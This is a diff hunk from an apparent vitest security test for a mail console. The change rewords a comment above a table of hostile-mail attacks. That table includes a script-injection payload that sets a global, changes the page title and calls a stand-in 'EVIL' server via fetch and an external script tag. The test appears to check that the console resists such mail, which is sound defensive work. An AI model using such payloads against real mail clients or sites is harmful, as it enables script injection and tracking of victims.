@@ -5,7 +5,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { HttpLab } from '../http/client.ts'
 import { ConsoleBrowser, consoleLab, hasChromium } from './browser.ts'
 
-/** What hostile mail tries. `EVIL` is a server that records who asks it; `LAB` is the console itself. */
+/** The attacks of hostile mail. `EVIL` is a server that records who asks it; `LAB` is the console itself. */
 const attacks: Readonly<Record<string, string>> = {
   script:
     '<script>top.hacked = 1; document.title = "hacked"; fetch("EVIL/fetch")</script><script src="EVIL/script.js"></script>',
